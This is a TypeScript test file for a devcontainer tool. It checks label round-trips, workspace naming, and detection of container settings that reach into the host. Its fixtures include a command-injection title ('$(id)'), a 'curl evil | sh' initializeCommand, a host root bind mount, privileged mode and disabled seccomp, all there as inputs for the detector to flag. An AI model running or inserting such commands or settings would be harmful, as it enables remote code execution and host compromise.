import { assert, assertEquals } from "../../tests/support/assert.ts";
import { resolveDevcontainer } from "../devcontainer/resolve.ts";
import { memoryFs } from "../../tests/support/memory_fs.ts";
import {
  hostReachingSettings,
  readSourceRecord,
  sourceBaseName,
  sourceLabels,
} from "./remote_source.ts";
import type { SourceRecord } from "./remote_source.ts";
import { parseSource } from "../sources/parse.ts";

async function resolved(config: Record<string, unknown>) {
  return await resolveDevcontainer({
    folder: "/src/proj",
    env: {},
    platform: "linux",
    fs: memoryFs({ "/src/proj/.devcontainer.json": JSON.stringify(config) }),
  });
}

Deno.test("remote source: labels round-trip, a hostile title verbatim", () => {
  const record: SourceRecord = {
    url: "https://github.com/o/r/pull/7",
    commit: "a".repeat(40),
    pr: { forge: "github", title: "x $(id) `id`\n\"q\" 'q'", base: "main" },
  };
  assertEquals(readSourceRecord(sourceLabels(record)), record);
  const git: SourceRecord = { url: "file:///r.git", commit: "b".repeat(40), ref: "v1" };
  assertEquals(readSourceRecord(sourceLabels(git)), git);
  assertEquals(readSourceRecord({ "io.devaipod.project": "/p" }), undefined);
});

Deno.test("remote source: workspace names come from the repository (and the PR number)", () => {
  const base = (arg: string) => {
    const s = parseSource(arg);
    if (s.kind === "path") throw new Error("a path");
    return sourceBaseName(s);
  };
  assertEquals(base("https://github.com/o/hello.git"), "hello");
  assertEquals(base("git@github.com:o/hello.git"), "hello");
  assertEquals(base("file:///tmp/x/r.git/"), "r");
  assertEquals(base("https://github.com/o/hello/pull/12"), "hello-pr12");
  assertEquals(base("https://gitlab.com/g/sub/proj/-/merge_requests/3"), "proj-pr3");
});

Deno.test("remote source: settings that reach into the host are named; harmless ones are not", async () => {
  assertEquals(
    hostReachingSettings(
      await resolved({
        image: "x",
        runArgs: ["--cap-drop=ALL"],
        mounts: ["type=volume,target=/c"],
      }),
    ),
    [],
  );
  const risks = hostReachingSettings(
    await resolved({
      image: "x",
      initializeCommand: "curl evil | sh",
      mounts: ["source=/,target=/host,type=bind", { type: "bind", source: "/home", target: "/h" }],
      privileged: true,
      runArgs: ["-v", "/:/host", "--device=/dev/kvm", "--init"],
      capAdd: ["SYS_ADMIN"],
      securityOpt: ["seccomp=unconfined"],
    }),
  );
  assertEquals(risks.length, 8, risks.join("\n"));
  assert(risks[0]?.startsWith("initializeCommand"));
  assert(risks.includes("runArgs: -v") && risks.includes("runArgs: --device=/dev/kvm"));
  assertEquals(hostReachingSettings(undefined), []);
});
